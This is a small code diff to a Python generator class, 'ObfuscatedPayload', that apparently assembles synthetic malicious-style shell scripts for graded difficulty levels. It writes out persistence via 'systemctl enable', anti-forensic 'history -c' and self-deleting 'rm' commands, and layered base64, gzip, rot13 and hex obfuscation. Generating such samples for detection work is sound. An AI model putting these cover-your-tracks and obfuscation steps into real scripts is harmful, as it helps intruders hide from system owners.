@@ -236,7 +236,7 @@ class ObfuscatedPayload(Family):
             L.append(f"systemctl enable --now {svc} 2>/dev/null || true")
             files.add(upath)
             ends.add(pool)
-        L.append(f"history -c; rm -f -- \"$0\"")
+        L.append("history -c; rm -f -- \"$0\"")
         final = "\n".join(L) + "\n"
         kinds = {"easy": ["b64", rng.choice(["rev", "hex"])],
                  "medium": ["b64", "gzip", rng.choice(["rot13", "rev"]), "hex"],
